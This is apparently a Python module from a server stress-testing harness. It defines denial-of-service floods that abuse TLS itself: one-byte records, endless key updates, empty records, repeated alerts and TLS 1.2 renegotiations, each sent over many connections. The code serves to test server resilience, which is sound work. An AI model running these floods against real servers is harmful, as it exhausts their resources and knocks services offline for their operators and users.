"""Hostile clients that misuse TLS itself: records without data, one at a time or without end."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import AsyncIterator, Callable

from attack import Attack
from tls_writer import ALERT, CLOSE_NOTIFY, DATA, HANDSHAKE, KEY_UPDATE_REQUEST, WARNING, Client, Writer


@contextlib.asynccontextmanager
async def shaken(
    attack: Attack, old: bool
) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter, Client]]:
    """Connect, and do the handshake."""
    reader, writer = await attack.open(tls=False)
    try:
        client = Client(old)
        while True:
            writer.write(client.outgoing)
            if client.shaken:
                break
            client.feed(await reader.read(65536) or b'\x15\3\3\0\2\2\0')  # an end is an alert
        yield reader, writer, client
    finally:
        writer.transport.abort()


async def flood(
    attack: Attack, record: Callable[[Writer, Client], bytes], begin: bytes = b'', old: bool = False
) -> None:
    """Send records without end, each made for its connection."""

    async def one() -> None:
        async with shaken(attack, old) as (reader, writer, client):
            records = client.writer()
            if begin:
                writer.write(records.record(DATA, begin))
            while attack.running and not reader.at_eof():
                writer.write(b''.join(record(records, client) for _ in range(500)))
                await writer.drain()
                attack.discard(reader)
                await asyncio.sleep(0)

    await attack.many(one)


async def tls_records(attack: Attack) -> None:
    """Upload in TLS records of one byte, as fast as the server takes them."""
    head = b'POST /echo/x HTTP/1.1\r\nHost: test\r\nContent-Length: 100000000\r\n\r\n'
    await flood(attack, lambda records, _: records.record(DATA, b'x'), head)


async def key_updates(attack: Attack) -> None:
    """Change the keys of TLS 1.3 again and again."""
    await flood(attack, lambda records, _: records.key_update())


async def update_requests(attack: Attack) -> None:
    """Change the keys, and ask for new ones of the server each time."""
    await flood(attack, lambda records, _: records.key_update(KEY_UPDATE_REQUEST))


async def empty_records(attack: Attack) -> None:
    """Send records of application data that hold none."""
    await flood(attack, lambda records, _: records.record(DATA))


async def empty_old_records(attack: Attack) -> None:
    """Do the same in TLS 1.2."""
    await flood(attack, lambda records, _: records.record(DATA), old=True)


async def close_notifies(attack: Attack) -> None:
    """Announce the end of the connection again and again."""
    await flood(attack, lambda records, _: records.record(ALERT, CLOSE_NOTIFY))


async def warnings(attack: Attack) -> None:
    """Send warnings of TLS 1.2."""
    await flood(attack, lambda records, _: records.record(ALERT, WARNING), old=True)


async def renegotiations(attack: Attack) -> None:
    """Begin the handshake of TLS 1.2 again and again within the connection."""
    await flood(attack, lambda records, client: records.record(HANDSHAKE, client.hello), old=True)


TLS_FLOODS = (
    tls_records, key_updates, update_requests, empty_records, empty_old_records, close_notifies, warnings,
    renegotiations,
)  # fmt: skip
OLD_TLS = (empty_old_records, warnings, renegotiations)
"""Attacks that need a server of TLS 1.2."""
